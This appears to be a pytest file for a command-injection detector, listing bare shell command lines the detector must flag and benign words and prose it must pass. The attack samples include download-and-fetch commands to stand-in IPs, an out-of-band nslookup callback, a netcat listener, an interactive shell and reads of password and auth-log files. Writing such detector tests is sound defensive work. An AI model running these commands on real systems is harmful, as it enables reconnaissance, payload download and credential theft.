"""A whole value that is a shell command line (``commands.bare_command``), through ``is_cmdi`` and the prefilter."""

from __future__ import annotations

import pytest

from bastion.detection.engine import Engine
from bastion.detection.prefilter import TRIGGERS, Prefilter
from bastion.detection.shell import is_cmdi

ATTACKS = {
    "recon_alone": "ifconfig",
    "recon_with_option": "uname -srm",
    "windows_recon_switch": "ipconfig /displaydns",
    "netstat_options": "netstat -tulpn",
    "name_lookup_out_of_band": "nslookup probe7.callback.example",
    "windows_lolbin_download": "certutil -urlcache -split -f http://198.51.100.7/a.exe",
    "compressed_log_read": "xzcat /var/log/auth.log.1.xz",
    "gunzip_to_stdout": "gunzip -c /var/backups/passwd.1.gz",
    "config_management_subcommand": "ansible-vault view vault.yml",
    "chef_family_by_prefix": "chef-shell -z",
    "security_agent_cli": "cscli decisions list",
    "subcommand_then_file_name": "ansible-playbook deploy.yml",
    "account_database_lookup": "getent group",
    "subcommand_then_option": "ansible localhost -a hostname",
    "download_tool_with_url": "wget http://files.example.net/run.sh",
    "quoted_tool_name": "'nmap' -sV 192.0.2.10",
    "mixed_case_tool_name": "TcpDump -i eth0",
    "absolute_path_to_tool": "/usr/bin/getent passwd",
    "windows_exe_suffix": "tasklist.exe /v",
    "sleep_delay_probe": "sleep 7",
    "sleep_with_unit": "sleep 3s",
    "ping_delay_probe_at_address": "ping -n 12 192.0.2.1",
    "perl_one_liner": "perl -e 'print 42'",
    "python_one_liner": 'python3 -c "import os"',
    "shell_dash_c": "zsh -c whoami",
    "interactive_shell": "bash -i",
    "windows_cmd_slash_c": "cmd /c ver",
    "base64_decode": "base64 -d payload.b64",
    "which_probe_for_tool": "which socat",
    "bare_url_fetch": "curl http://203.0.113.9/x",
    "listing_of_system_root": "ls -la /root",
    "windows_drive_listing": "dir D:\\",
    "windows_net_view": "net share",
    "netcat_listener": "nc -lvp 9001",
    "perf_option": "perf -h",
}
BENIGN = {
    "id_field_name": "id",
    "time_word": "time",
    "date_word": "date",
    "more_word": "more",
    "sort_field": "sort",
    "find_word": "find",
    "test_word": "test",
    "bash_alone_is_a_word": "bash",
    "sleep_in_prose": "sleep deprived after the launch",
    "sleep_product": "sleep mask deluxe",
    "ping_host_name_runbook": "ping -c 3 status.example.org",
    "ping_in_prose": "ping pong paddles",
    "curl_tag": "curl",
    "curl_api_example_with_headers": "curl -X DELETE https://api.example.org/v2/items/9 -H 'X-Key: k'",
    "curl_in_prose": "curl is fine for that",
    "tool_mentioned_mid_sentence": "We ran uname -a on the build box",
    "recon_tool_then_prose": "netstat and friends are old",
    "nmap_as_topic_in_prose": "nmap for the win",
    "nc_with_words": "nc 9000 router",
    "listing_of_app_directory": "ls -la /srv/app/logs/",
    "dir_with_switches": "dir /w /p",
    "python_module_run": "python -m http.server",
    "net_terms": "Net 45 days",
    "which_in_question": "which colour fits",
    "user_agent_of_tool": "curl/8.4.0",
    "whoami_endpoint_segment": "whoami",
    "pipe_snippet_left_to_snippet_rules": "ls -la /var/tmp | tail",
    "product_name_after_tool_name": "Ansible Tower",
    "recon_tool_then_title": "Netstat Explained",
    "kitchen_knife_not_a_tool": "knife block set",
    "recon_tool_then_many_words": "tcpdump capture from last night on gateway two",
    "search_for_a_tool": "nmap cheatsheet",
    "search_for_a_tool_and_number": "wget 2",
    "ansible_search_without_option": "ansible roles",
}


@pytest.mark.parametrize("payload", ATTACKS.values(), ids=ATTACKS.keys())
def test_detects_bare_command_line(payload: str) -> None:
    assert is_cmdi(payload) is not None
    assert "cmdi" in Prefilter({"cmdi": TRIGGERS["cmdi"]}, use_hyperscan=False).scan(payload)


@pytest.mark.parametrize("text", BENIGN.values(), ids=BENIGN.keys())
def test_passes_words_prose_and_documentation_commands(text: str) -> None:
    assert is_cmdi(text) is None


def test_prefilter_fires_at_the_start_of_each_value_in_a_batch() -> None:
    prefilter = Engine().prefilter
    hits = prefilter.scan_hits(["order 42", "uname -a", "see uname -a", "'cscli' x"])
    assert "cmdi" in hits.get(1, set())
    assert "cmdi" not in hits.get(2, set())
    assert "cmdi" in hits.get(3, set())
